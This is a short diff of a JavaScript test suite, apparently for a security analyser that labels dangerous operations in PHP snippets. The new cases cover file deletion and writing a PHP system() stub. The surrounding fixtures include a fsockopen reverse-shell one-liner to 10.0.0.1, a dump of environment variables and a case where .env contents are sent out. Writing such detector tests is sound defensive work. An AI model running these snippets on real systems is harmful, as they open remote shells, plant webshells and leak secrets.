@@ -40,6 +40,9 @@ describe("what is caught", () => {
       "read .env shows",
       "connect http://h change sends[.env body] checked",
     ],
+    'array_map(function($f) { unlink($f); }, glob("*.tmp"));': ["delete *.tmp"],
+    '@unlink("a"); \\unlink("b");': ["delete a", "delete b"],
+    'file_put_contents("x", "<?php system(1); ?>");': ["write x replace"],
     "print_r($_ENV);": ["reveal what(* environment body)"],
     '$s=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");': [
       "connect tcp://10.0.0.1:1234 tunnel checked",
